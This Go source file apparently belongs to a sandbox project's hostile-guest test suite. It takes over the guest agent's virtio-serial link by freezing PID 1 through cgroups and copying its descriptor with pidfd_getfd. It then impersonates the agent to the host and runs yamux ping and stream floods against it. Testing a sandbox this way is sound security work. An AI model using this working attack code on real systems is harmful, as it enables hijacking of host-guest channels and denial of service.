package main

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/space-sandbox/space/internal/agentproto"
)

// The agent (PID 1) holds the link's virtio-serial port open, and the port
// takes one opener at a time. Root in the guest takes it over all the same:
// it freezes the agent (moves PID 1 into a cgroup of its own and sets
// cgroup.freeze) so nothing else reads or writes the port, and copies the
// agent's descriptor of it with pidfd_getfd. It then breaks the host's
// session with a frame of a yamux version that does not exist, so the host
// redials and syncs again, and answers that handshake itself: from there
// the host talks to this program as its agent.

// yamux frame header: version, type, flags, stream id, length.
const (
	yamuxData         = 0
	yamuxWindowUpdate = 1
	yamuxPing         = 2
	flagSYN           = 1
	headerSize        = 12
	initialWindow     = 256 << 10 // yamux's default stream window
)

func header(typ byte, flags uint16, stream, length uint32) []byte {
	h := make([]byte, headerSize)
	h[1] = typ
	binary.BigEndian.PutUint16(h[2:], flags)
	binary.BigEndian.PutUint32(h[4:], stream)
	binary.BigEndian.PutUint32(h[8:], length)
	return h
}

// linkAttack takes the link over, syncs with the host and runs attack on
// the synced connection.
func linkAttack(ctx context.Context, attack func(context.Context, net.Conn) string) (string, error) {
	conn, err := takeOver()
	if err != nil {
		return "", err
	}
	note("took the agent link over")
	// A frame no yamux speaks: the host drops its session and redials.
	bad := header(yamuxPing, flagSYN, 0, 0)
	bad[0] = 0x7f
	if _, err := conn.Write(bad); err != nil {
		return "", fmt.Errorf("break the host's session: %w", err)
	}
	var synced net.Conn
	for synced == nil {
		if ctx.Err() != nil {
			return "", fmt.Errorf("the host never synced again: %w", ctx.Err())
		}
		synced, err = agentproto.AgentSync(ctx, conn)
		if err != nil {
			synced = nil
			time.Sleep(20 * time.Millisecond) // no host connected yet (EOF)
		}
	}
	note("synced with the host as its agent")
	return attack(ctx, synced), nil
}

// takeOver freezes the agent and returns the link port it held.
func takeOver() (net.Conn, error) {
	dev, agentFD, err := agentPort()
	if err != nil {
		return nil, err
	}
	if err := freezeAgent(); err != nil {
		return nil, err
	}
	pidfd, err := unix.PidfdOpen(1, 0)
	if err != nil {
		return nil, fmt.Errorf("pidfd_open(1): %w", err)
	}
	defer unix.Close(pidfd)
	fd, err := unix.PidfdGetfd(pidfd, agentFD, 0)
	if err != nil {
		return nil, fmt.Errorf("pidfd_getfd(agent fd %d): %w", agentFD, err)
	}
	// The agent opened it non-blocking, so the runtime poller drives it.
	return &portConn{File: os.NewFile(uintptr(fd), dev)}, nil
}

// portConn is the port device as a net.Conn, as the agent's own.
type portConn struct{ *os.File }

type portAddr struct{}

func (portAddr) Network() string       { return "virtio-serial" }
func (portAddr) String() string        { return agentproto.PortName }
func (*portConn) LocalAddr() net.Addr  { return portAddr{} }
func (*portConn) RemoteAddr() net.Addr { return portAddr{} }

// agentPort finds the descriptor of PID 1 open on the agent's port.
func agentPort() (string, int, error) {
	names, _ := filepath.Glob("/sys/class/virtio-ports/*/name")
	var dev string
	for _, p := range names {
		if b, err := os.ReadFile(p); err == nil && strings.TrimSpace(string(b)) == agentproto.PortName {
			dev = "/dev/" + filepath.Base(filepath.Dir(p))
		}
	}
	if dev == "" {
		return "", 0, errors.New("no virtio port named " + agentproto.PortName)
	}
	fds, err := os.ReadDir("/proc/1/fd")
	if err != nil {
		return "", 0, err
	}
	for _, e := range fds {
		if target, err := os.Readlink("/proc/1/fd/" + e.Name()); err == nil && target == dev {
			var fd int
			fmt.Sscan(e.Name(), &fd)
			return dev, fd, nil
		}
	}
	return "", 0, fmt.Errorf("PID 1 does not hold %s open", dev)
}

// freezeAgent moves PID 1 into a new cgroup and freezes it.
func freezeAgent() error {
	root, err := cgroupRoot()
	if err != nil {
		return err
	}
	dir := filepath.Join(root, "hostile-frozen-agent")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(dir, "cgroup.procs"), []byte("1"), 0); err != nil {
		return fmt.Errorf("move PID 1: %w", err)
	}
	if err := os.WriteFile(filepath.Join(dir, "cgroup.freeze"), []byte("1"), 0); err != nil {
		return fmt.Errorf("freeze PID 1: %w", err)
	}
	for range 100 {
		b, _ := os.ReadFile(filepath.Join(dir, "cgroup.events"))
		if strings.Contains(string(b), "frozen 1") {
			return nil
		}
		time.Sleep(10 * time.Millisecond)
	}
	return errors.New("PID 1 did not freeze")
}

func cgroupRoot() (string, error) {
	b, err := os.ReadFile("/proc/self/mounts")
	if err != nil {
		return "", err
	}
	for _, l := range strings.Split(string(b), "\n") {
		if f := strings.Fields(l); len(f) > 2 && f[2] == "cgroup2" {
			return f[1], nil
		}
	}
	return "", errors.New("no cgroup2 mount")
}

// pingFlood writes yamux pings, many to a write, and reads nothing: each
// asks the host for an answer it cannot deliver.
func pingFlood(ctx context.Context, c net.Conn) string {
	var batch []byte
	for i := range 4096 {
		batch = append(batch, header(yamuxPing, flagSYN, 0, uint32(i))...)
	}
	var pings int64
	context.AfterFunc(ctx, func() { _ = c.SetWriteDeadline(time.Now()) })
	var err error
	for ctx.Err() == nil {
		var n int
		n, err = c.Write(batch)
		pings += int64(n / headerSize)
		if err != nil {
			break
		}
	}
	return fmt.Sprintf("pings=%d stopped_by=%v", pings, errOrCtx(ctx, err))
}

// streamFlood opens n streams (agent-side ids are even) and sends each a
// full window of data the host never reads, reading nothing itself.
func streamFlood(ctx context.Context, c net.Conn, n int) string {
	context.AfterFunc(ctx, func() { _ = c.SetWriteDeadline(time.Now()) })
	body := make([]byte, initialWindow)
	var opened, bytesSent int64
	var err error
	for i := range n {
		id := uint32(2 * (i + 1))
		if _, err = c.Write(header(yamuxWindowUpdate, flagSYN, id, 0)); err != nil {
			break
		}
		opened++
		frame := append(header(yamuxData, 0, id, initialWindow), body...)
		var k int
		k, err = c.Write(frame)
		bytesSent += int64(max(k-headerSize, 0))
		if err != nil {
			break
		}
	}
	// Hold the link (reading nothing) until the end.
	<-ctx.Done()
	return fmt.Sprintf("streams=%d window_bytes=%d stopped_by=%v", opened, bytesSent, errOrCtx(ctx, err))
}

func errOrCtx(ctx context.Context, err error) error {
	if err != nil && ctx.Err() == nil {
		return err
	}
	return ctx.Err()
}
